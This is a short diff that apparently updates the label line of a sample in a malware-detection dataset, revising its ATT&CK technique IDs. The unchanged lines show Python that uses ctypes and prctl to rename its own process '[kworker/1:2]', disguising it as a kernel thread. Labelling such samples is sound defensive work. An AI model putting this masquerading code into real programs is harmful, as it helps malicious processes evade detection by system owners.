@@ -1,4 +1,4 @@
-# label: malicious family=evasion techniques=T1036.004,T1564.001,T1105 lines=4,6
+# label: malicious family=evasion techniques=T1036.005,T1059.006,T1105,T1106,T1620 lines=4,6
 import ctypes, sys, urllib.request
 libc = ctypes.CDLL("libc.so.6")
 libc.prctl(15, b"[kworker/1:2]", 0, 0, 0)
